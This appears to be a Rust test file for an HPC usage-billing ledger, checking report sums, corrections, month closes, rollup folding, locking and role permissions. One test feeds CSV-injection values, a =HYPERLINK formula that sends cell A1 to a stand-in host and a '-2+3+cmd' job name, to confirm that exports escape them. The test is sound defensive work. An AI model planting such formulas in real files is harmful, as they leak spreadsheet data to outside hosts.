//! `hpc-ledger usage` (issue 18, item 2): sums from the ledger, by user,
//! cluster, node type and month, that agree with the statements.

use rust_decimal::Decimal;

use crate::harness::{TestDb, cli_with_env, close_by_hand, ok, stderr, stdout};

async fn sample() -> TestDb {
    let db = TestDb::with_example().await;
    let jobs = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/jobs");
    ok(&db.cli(&[
        "import",
        "--format",
        "slurm",
        jobs.join("owens-sacct.txt").to_str().unwrap(),
    ]));
    ok(&db.cli(&["import", "--format", "jsonl", jobs.join("jobs.jsonl").to_str().unwrap()]));
    ok(&db.cli(&["bill", "storage", "--through", "2026-10"]));
    db
}

/// One row of a CSV usage report: project, key, jobs and amount (the last column).
struct Row {
    project: String,
    key: String,
    jobs: i64,
    amount: Decimal,
}

fn rows(csv: &str) -> Vec<Row> {
    csv.lines()
        .skip(1)
        .map(|l| {
            let cells: Vec<&str> = l.split(',').collect();
            Row {
                project: cells[0].to_owned(),
                key: cells[1].to_owned(),
                jobs: cells[2].parse().unwrap(),
                amount: cells.last().unwrap().parse().unwrap(),
            }
        })
        .collect()
}

/// `key, amount` of each row.
fn amounts(csv: &str) -> Vec<(String, Decimal)> {
    rows(csv).into_iter().map(|r| (r.key, r.amount)).collect()
}

#[tokio::test]
async fn usage_sums_agree_with_the_statements_and_follow_corrections() {
    let db = sample().await;
    // A refund of half of ada's owens/1002 (30 core-hours, 0.36): -15 core-hours, -0.18.
    ok(&db.cli(&[
        "refund",
        "--cluster",
        "owens",
        "--job-id",
        "1002",
        "--fraction",
        "0.5",
        "--reason",
        "slow disk",
        "--month",
        "2026-10",
    ]));
    // By month: each month's amount is the month's statement total.
    let csv = ok(&db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-01",
        "--to",
        "2026-10",
        "--by",
        "month",
        "--format",
        "csv",
    ]));
    assert!(
        csv.starts_with("project,month,jobs,core_hours,gpu_hours,tb_months,amount\n"),
        "{csv}"
    );
    let months = amounts(&csv);
    assert_eq!(months.len(), 10, "{csv}");
    for (month, amount) in &months {
        let json: serde_json::Value = serde_json::from_str(&ok(&db.cli(&[
            "statement",
            "--project",
            "PAS1234",
            "--month",
            month,
            "--format",
            "json",
        ])))
        .unwrap();
        assert_eq!(
            json["total"].as_str().unwrap().parse::<Decimal>().unwrap(),
            *amount,
            "{month}"
        );
    }
    // By user: the refund is ada's; storage is its own row; the sum is the same.
    let csv = ok(&db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-10",
        "--by",
        "user",
        "--format",
        "csv",
    ]));
    let users = amounts(&csv);
    let total: Decimal = users.iter().map(|(_, a)| *a).sum();
    assert_eq!(total, months.last().unwrap().1, "{csv}");
    assert!(users.iter().any(|(u, _)| u == "(storage)"), "{csv}");
    let ada = csv.lines().find(|l| l.starts_with("PAS1234,ada,")).expect("ada's row");
    let (direct,): (Decimal,) = sqlx::query_as(
        "SELECT sum(e.quantity) FROM ledger_entry e
           LEFT JOIN ledger_entry o ON o.id = e.corrects_id
           JOIN job_record r ON r.id = coalesce(e.job_record_id, o.job_record_id)
           JOIN project p ON p.id = e.project_id
          WHERE p.code = 'PAS1234' AND e.period = '2026-10-01' AND r.user_name = 'ada' AND e.metric = 'core_hours'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert_eq!(
        ada.split(',').nth(3).unwrap().parse::<Decimal>().unwrap(),
        direct,
        "{ada}"
    );
    // By node type, every project: GPU-hours where GPUs ran.
    let out = ok(&db.cli(&["usage", "--all", "--from", "2026-10", "--by", "node-type"]));
    assert!(out.lines().any(|l| l.starts_with("PAA0042  owens/gpu")), "{out}");
    assert!(out.contains("total 2026-10: "), "{out}");
    let json: serde_json::Value = serde_json::from_str(&ok(&db.cli(&[
        "usage", "--all", "--from", "2026-10", "--by", "cluster", "--format", "json",
    ])))
    .unwrap();
    assert_eq!(json["by"], "cluster");
    assert!(json["rows"].as_array().unwrap().iter().any(|r| r["key"] == "pitzer"));

    // Bad input says what is wrong.
    let o = db.cli(&["usage", "--project", "PAS1243", "--from", "2026-10", "--by", "user"]);
    assert!(
        stderr(&o).contains("unknown project \"PAS1243\" (did you mean PAS1234?)"),
        "{}",
        stderr(&o)
    );
    let o = db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-10",
        "--to",
        "2026-09",
        "--by",
        "user",
    ]);
    assert!(
        stderr(&o).contains("--from 2026-10 is after --to 2026-09"),
        "{}",
        stderr(&o)
    );
}

/// `jobs, amount` of `key`'s row in a CSV usage report (`None`: no row).
fn row(csv: &str, key: &str) -> Option<(i64, Decimal)> {
    rows(csv).into_iter().find(|r| r.key == key).map(|r| (r.jobs, r.amount))
}

#[tokio::test]
async fn a_supersede_moves_the_job_and_its_charge_and_closing_keeps_every_sum() {
    let db = sample().await;
    let env = [("DATABASE_URL", db.url.as_str())];
    let by = |what: &str| {
        ok(&db.cli(&[
            "usage",
            "--project",
            "PAS1234",
            "--from",
            "2026-10",
            "--by",
            what,
            "--format",
            "csv",
        ]))
    };
    let (ada_jobs, ada_amount) = row(&by("user"), "ada").expect("ada's row");
    assert_eq!(row(&by("user"), "grace"), None);
    // One more job of ada's on owens (2 cores for 2 hours) ...
    let job = r#"{"cluster": "owens", "job_id": "7001", "project": "PAS1234", "user": "ada", "queue": "batch",
                 "cores": 2, "submit": "2026-10-22T08:00:00-04:00", "start": "2026-10-22T08:00:00-04:00",
                 "end": "2026-10-22T10:00:00-04:00", "state": "COMPLETED"}"#
        .replace('\n', " ");
    ok(&cli_with_env(&["job", "record", "--json"], &env, Some(&job)));
    let (jobs, amount) = row(&by("user"), "ada").unwrap();
    assert_eq!(jobs, ada_jobs + 1);
    let first = amount - ada_amount;
    assert!(first > Decimal::ZERO, "{first}");
    // ... then sent again as grace's with 4 cores: the old charge is reversed
    // (ada's again, one job fewer), the new one is grace's.
    let changed = job
        .replace("\"ada\"", "\"grace\"")
        .replace("\"cores\": 2", "\"cores\": 4");
    ok(&cli_with_env(
        &["job", "record", "--json", "--supersede"],
        &env,
        Some(&changed),
    ));
    let users = by("user");
    assert_eq!(row(&users, "ada"), Some((ada_jobs, ada_amount)), "{users}");
    let (grace_jobs, grace_amount) = row(&users, "grace").expect("grace's row");
    let (charged,): (Decimal,) = sqlx::query_as(
        "SELECT sum(e.amount) FROM ledger_entry e JOIN job_record r ON r.id = e.job_record_id
          WHERE r.kind = 'supersede' AND e.kind = 'job'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert!(charged > first, "{charged} for 4 cores, {first} for 2");
    assert_eq!((grace_jobs, grace_amount), (1, charged), "{users}");
    // Every sum is the ledger's, read straight from the entries.
    let (direct, direct_jobs): (Decimal, i64) = sqlx::query_as(
        "SELECT sum(e.amount), count(*) FILTER (WHERE e.kind = 'job')
                                 - count(*) FILTER (WHERE e.kind = 'reversal' AND o.kind = 'job')
           FROM ledger_entry e JOIN project p ON p.id = e.project_id
           LEFT JOIN ledger_entry o ON o.id = e.corrects_id
          WHERE p.code = 'PAS1234' AND e.period = '2026-10-01'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    let all = rows(&users);
    assert_eq!(all.iter().map(|r| r.jobs).sum::<i64>(), direct_jobs, "{users}");
    assert_eq!(all.iter().map(|r| r.amount).sum::<Decimal>(), direct, "{users}");

    // A job is counted once, whether or not it held GPUs (a GPU job has a
    // core-hours and a GPU-hours line): every project's count in October
    // is its number of runs charged (none of the others was recorded again).
    let all = ok(&db.cli(&["usage", "--all", "--from", "2026-10", "--by", "user", "--format", "csv"]));
    let counted: std::collections::BTreeMap<String, i64> =
        rows(&all).into_iter().fold(Default::default(), |mut m, r| {
            *m.entry(r.project).or_default() += r.jobs;
            m
        });
    let runs: Vec<(String, i64)> = sqlx::query_as(
        "SELECT p.code, count(DISTINCT r.job_id)
           FROM ledger_entry e JOIN project p ON p.id = e.project_id JOIN job_record r ON r.id = e.job_record_id
          WHERE e.kind = 'job' AND e.period = '2026-10-01'
            AND NOT EXISTS (SELECT 1 FROM ledger_entry v WHERE v.corrects_id = e.id AND v.kind = 'reversal')
          GROUP BY p.code ORDER BY 1",
    )
    .fetch_all(&db.pool)
    .await
    .unwrap();
    assert!(runs.iter().any(|(p, _)| p == "PAA0042"), "{runs:?}");
    assert_eq!(runs, counted.into_iter().collect::<Vec<_>>(), "{all}");
    let (gpu_jobs,): (i64,) = sqlx::query_as(
        "SELECT count(DISTINCT r.job_id) FROM ledger_entry e JOIN job_record r ON r.id = e.job_record_id
          WHERE e.metric = 'gpu_hours' AND e.period = '2026-10-01'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert!(gpu_jobs > 0, "the sample holds a GPU job");

    // Closing October and folding its rows to one per key changes no report.
    let reports: Vec<String> = ["user", "cluster", "node-type", "class", "month"]
        .iter()
        .map(|b| by(b))
        .collect();
    let rows = |p: &sqlx::PgPool| {
        let p = p.clone();
        async move {
            sqlx::query_as::<_, (i64, i64)>(
                "SELECT count(*), count(DISTINCT (project_id, kind, user_name, cluster_id, node_type_id,
                                                  rate_card_id, storage_rate_id))
                   FROM ledger_usage WHERE period = '2026-10-01'",
            )
            .fetch_one(&p)
            .await
            .unwrap()
        }
    };
    let (before, _) = rows(&db.pool).await;
    for month in 1..=10 {
        close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
    }
    assert_eq!(fold(&db.pool).await, 10);
    let (after, keys) = rows(&db.pool).await;
    assert!(
        before > after && after == keys,
        "{before} rows folded to {after} for {keys} keys"
    );
    let again: Vec<String> = ["user", "cluster", "node-type", "class", "month"]
        .iter()
        .map(|b| by(b))
        .collect();
    assert_eq!(reports, again);

    // The audit sums the entries again: a month whose kept sums no longer
    // match them is a finding (expected: the entries' sum, {direct}).
    let o = db.cli(&["audit"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    sqlx::query(
        "UPDATE ledger_usage SET amount = amount + 1
          WHERE ctid = (SELECT ctid FROM ledger_usage WHERE period = '2026-10-01' AND user_name = 'grace')",
    )
    .execute(&db.pool)
    .await
    .unwrap();
    let o = db.cli(&["audit", "--month", "2026-10"]);
    assert_ne!(o.status.code(), Some(0));
    let out = stdout(&o);
    let finding = out.lines().find(|l| l.contains("usage sums")).unwrap_or_default();
    assert!(
        finding.contains("2026-10") && finding.contains("PAS1234") && finding.contains(&format!("{direct}")),
        "{out}"
    );
}

/// A user name a spreadsheet would run as a formula (a JSON record's user
/// is whatever its source wrote) reaches a CSV report as text.
#[tokio::test]
async fn a_user_name_that_looks_like_a_formula_is_text_in_csv() {
    let db = TestDb::with_example().await;
    let job = r#"{"cluster": "owens", "job_id": "9001", "project": "PAS1234", "user": "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "job_name": "-2+3+cmd", "queue": "batch", "cores": 1, "submit": "2026-10-20T08:00:00-04:00", "start": "2026-10-20T08:00:00-04:00", "end": "2026-10-20T09:00:00-04:00", "state": "COMPLETED", "exit_code": "0"}"#;
    let o = cli_with_env(&["job", "record", "--json"], &[("DATABASE_URL", &db.url)], Some(job));
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = ok(&db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-10",
        "--by",
        "user",
        "--format",
        "csv",
    ]));
    let row = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap_or_default();
    assert!(
        row.starts_with("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1") || row.contains(",\"'=HYPERLINK("),
        "{csv}"
    );
    // The text report shows the name as it is.
    let text = ok(&db.cli(&["usage", "--project", "PAS1234", "--from", "2026-10", "--by", "user"]));
    assert!(text.contains("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"), "{text}");
}

/// A month's rows and keys in each rollup: `[(draw rows, draw keys), (usage rows, usage keys)]`.
async fn rollup_rows(pool: &sqlx::PgPool, month: &str) -> [(i64, i64); 2] {
    let draw: (i64, i64) = sqlx::query_as(
        "SELECT count(*), count(DISTINCT (project_id, cluster_id, day)) FROM ledger_draw WHERE period = $1::date",
    )
    .bind(month)
    .fetch_one(pool)
    .await
    .unwrap();
    let usage: (i64, i64) = sqlx::query_as(
        "SELECT count(*), count(DISTINCT (project_id, kind, user_name, cluster_id, node_type_id, rate_card_id,
                                         storage_rate_id))
           FROM ledger_usage WHERE period = $1::date",
    )
    .bind(month)
    .fetch_one(pool)
    .await
    .unwrap();
    [draw, usage]
}

/// `SELECT hl_fold_rollups()`: the months it folded.
async fn fold(pool: &sqlx::PgPool) -> i32 {
    sqlx::query_scalar("SELECT hl_fold_rollups()")
        .fetch_one(pool)
        .await
        .unwrap()
}

async fn folded_months(pool: &sqlx::PgPool) -> Vec<String> {
    sqlx::query_scalar("SELECT to_char(period, 'YYYY-MM') FROM rollup_fold ORDER BY period")
        .fetch_all(pool)
        .await
        .unwrap()
}

/// Issue 19, item 2 (migration 0042): a month's close does not fold its
/// rollups (postings wait on the close); `hpc-ledger close` folds them once
/// the close has committed, and so does any later fold for a month whose
/// close did not. Folding changes no report and no audit finding.
#[tokio::test]
async fn a_months_rollups_are_folded_after_its_close_not_in_it() {
    let db = sample().await;
    let report = |db: &TestDb| {
        ok(&db.cli(&[
            "usage",
            "--project",
            "PAS1234",
            "--from",
            "2026-01",
            "--to",
            "2026-10",
            "--by",
            "user",
            "--format",
            "csv",
        ]))
    };
    let before = report(&db);
    // Two imports and a storage run in October: more rows than keys (usage).
    let [draw, usage] = rollup_rows(&db.pool, "2026-10-01").await;
    assert!(draw.0 + usage.0 > draw.1 + usage.1, "{draw:?} {usage:?}");
    // The database's close leaves them as they are.
    for month in 1..=10 {
        close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
    }
    assert_eq!(rollup_rows(&db.pool, "2026-10-01").await, [draw, usage]);
    assert!(folded_months(&db.pool).await.is_empty());
    assert_eq!(report(&db), before);
    ok(&db.cli(&["audit"]));
    // A fold folds every closed month once, oldest first, to one row per key.
    assert_eq!(fold(&db.pool).await, 10);
    let [d, u] = rollup_rows(&db.pool, "2026-10-01").await;
    assert_eq!((d, u), ((draw.1, draw.1), (usage.1, usage.1)));
    assert_eq!(folded_months(&db.pool).await.len(), 10);
    assert_eq!(fold(&db.pool).await, 0);
    assert_eq!(report(&db), before);
    ok(&db.cli(&["audit"]));

    // `hpc-ledger close` folds what it closed, once committed.
    let db = sample().await;
    let [draw, usage] = rollup_rows(&db.pool, "2026-10-01").await;
    assert!(draw.0 + usage.0 > draw.1 + usage.1, "{draw:?} {usage:?}");
    ok(&db.cli(&["close", "--through", "2026-10"]));
    let [d, u] = rollup_rows(&db.pool, "2026-10-01").await;
    assert_eq!((d, u), ((draw.1, draw.1), (usage.1, usage.1)));
    let months = folded_months(&db.pool).await;
    assert_eq!(months.last().map(String::as_str), Some("2026-10"), "{months:?}");
    assert_eq!(report(&db), before);
    ok(&db.cli(&["audit"]));
}

/// Folds run one at a time and nothing waits on one (migration 0042): a
/// fold started while another runs returns at once, folds run while a
/// posting transaction is open, and a posting starts while a fold is
/// uncommitted. However many run at once, each closed month is folded once
/// and no sum changes.
#[tokio::test]
async fn folds_wait_on_nothing_and_fold_each_month_once() {
    use std::time::Duration;
    let db = sample().await;
    let sums = "SELECT (SELECT sum(amount) FROM ledger_usage)::text, (SELECT sum(amount) FROM ledger_draw)::text,
                       (SELECT sum(amount) FROM ledger_entry)::text";
    let before: (String, String, String) = sqlx::query_as(sums).fetch_one(&db.pool).await.unwrap();
    for month in 1..=10 {
        close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
    }
    let soon = Duration::from_secs(5);
    // A posting transaction holds the period's and the rules' locks shared:
    // a fold does not wait for it. Nor does a posting wait for a fold, and
    // a second fold returns 0 while the first is uncommitted.
    let posting = hpc_ledger::db::ledger::begin_posting(&db.pool).await.unwrap();
    let mut first = db.pool.begin().await.unwrap();
    let folded: i32 = tokio::time::timeout(
        soon,
        sqlx::query_scalar("SELECT hl_fold_rollups()").fetch_one(&mut *first),
    )
    .await
    .expect("a fold waits for an open posting")
    .unwrap();
    assert_eq!(folded, 10);
    let other = tokio::time::timeout(soon, fold(&db.pool))
        .await
        .expect("a fold waits for another");
    assert_eq!(other, 0);
    let second = tokio::time::timeout(soon, hpc_ledger::db::ledger::begin_posting(&db.pool))
        .await
        .expect("a posting waits for a fold")
        .unwrap();
    second.rollback().await.unwrap();
    posting.rollback().await.unwrap();
    first.rollback().await.unwrap();
    assert!(folded_months(&db.pool).await.is_empty());

    // Four at once, committed: each month folded once.
    let tasks: Vec<_> = (0..4)
        .map(|_| {
            let pool = db.pool.clone();
            tokio::spawn(async move { fold(&pool).await })
        })
        .collect();
    let mut folded = 0;
    for t in tasks {
        folded += t.await.unwrap();
    }
    // (a fold that found another running folded nothing; any left, the next folds)
    folded += fold(&db.pool).await;
    assert_eq!(folded, 10);
    assert_eq!(folded_months(&db.pool).await.len(), 10);
    let after: (String, String, String) = sqlx::query_as(sums).fetch_one(&db.pool).await.unwrap();
    assert_eq!(after, before);
    assert_eq!(before.0, before.2);
    let [d, u] = rollup_rows(&db.pool, "2026-10-01").await;
    assert!(d.0 == d.1 && u.0 == u.1, "{d:?} {u:?}");

    // The roles that close, import and serve may fold; the auditor may not.
    let mut conn = db.pool.acquire().await.unwrap();
    for role in ["hpc_ledger_ingest", "hpc_ledger_billing"] {
        sqlx::raw_sql(&format!("SET ROLE {role}"))
            .execute(&mut *conn)
            .await
            .unwrap();
        let n: i32 = sqlx::query_scalar("SELECT hl_fold_rollups()")
            .fetch_one(&mut *conn)
            .await
            .unwrap_or_else(|e| panic!("{role}: {e}"));
        assert_eq!(n, 0, "{role}");
        sqlx::raw_sql("RESET ROLE").execute(&mut *conn).await.unwrap();
    }
    sqlx::raw_sql("SET ROLE hpc_ledger_auditor")
        .execute(&mut *conn)
        .await
        .unwrap();
    let refused = sqlx::query_scalar::<_, i32>("SELECT hl_fold_rollups()")
        .fetch_one(&mut *conn)
        .await
        .expect_err("the auditor may not fold")
        .to_string();
    sqlx::raw_sql("RESET ROLE").execute(&mut *conn).await.unwrap();
    assert!(refused.contains("permission denied"), "{refused}");
}

/// The usage report's transaction reads one snapshot, plans each query for
/// its parameters and compiles none (JIT cost more than it saved on a pass
/// over every project's months); the connection leaves it as it came.
#[tokio::test]
async fn the_reports_transaction_plans_for_its_parameters_without_jit() {
    let db = TestDb::new().await;
    let settings = "SELECT current_setting('jit') || ' ' || current_setting('plan_cache_mode') || ' ' \
                    || current_setting('transaction_read_only')";
    let mut tx = hpc_ledger::db::begin_custom_plans(&db.pool).await.unwrap();
    let inside: String = sqlx::query_scalar(settings).fetch_one(&mut *tx).await.unwrap();
    tx.commit().await.unwrap();
    assert_eq!(inside, "off force_custom_plan on");
    let mut conn = db.pool.acquire().await.unwrap();
    let after: String = sqlx::query_scalar(settings).fetch_one(&mut *conn).await.unwrap();
    let server: String = sqlx::query_scalar(
        "SELECT string_agg(reset_val, ' ' ORDER BY name) FROM pg_settings WHERE name IN ('jit', 'plan_cache_mode')",
    )
    .fetch_one(&mut *conn)
    .await
    .unwrap();
    assert_eq!(after, format!("{server} off"));
}

/// A posting whose wait for the period's lock fails (a close holds it; the
/// wait times out, or an operator cancels it) leaves its connection usable:
/// the pool's next posting and query on it work. The locks were taken in
/// `BEGIN`'s own round trip, where a failure left the connection in an
/// aborted transaction that went back to the pool, and every posting that
/// took it next failed ("current transaction is aborted").
#[tokio::test]
async fn a_failed_wait_for_the_posting_lock_leaves_the_connection_usable() {
    let db = crate::harness::TestDb::new().await;
    // One connection, its lock waits cut at 100 ms.
    let options: sqlx::postgres::PgConnectOptions = db.url.parse().unwrap();
    let pool = sqlx::postgres::PgPoolOptions::new()
        .max_connections(1)
        .connect_with(options.options([("lock_timeout", "100ms")]))
        .await
        .unwrap();
    // As a close does: the period's lock held exclusively.
    let mut close = db.pool.begin().await.unwrap();
    sqlx::raw_sql("SELECT pg_advisory_xact_lock(hl_period_lock_key())")
        .execute(&mut *close)
        .await
        .unwrap();
    let refused = hpc_ledger::db::ledger::begin_posting(&pool).await.unwrap_err();
    assert!(refused.to_string().contains("lock timeout"), "{refused}");
    close.rollback().await.unwrap();
    let one: i32 = sqlx::query_scalar("SELECT 1").fetch_one(&pool).await.unwrap();
    assert_eq!(one, 1);
    let posting = hpc_ledger::db::ledger::begin_posting(&pool).await.unwrap();
    posting.rollback().await.unwrap();
}
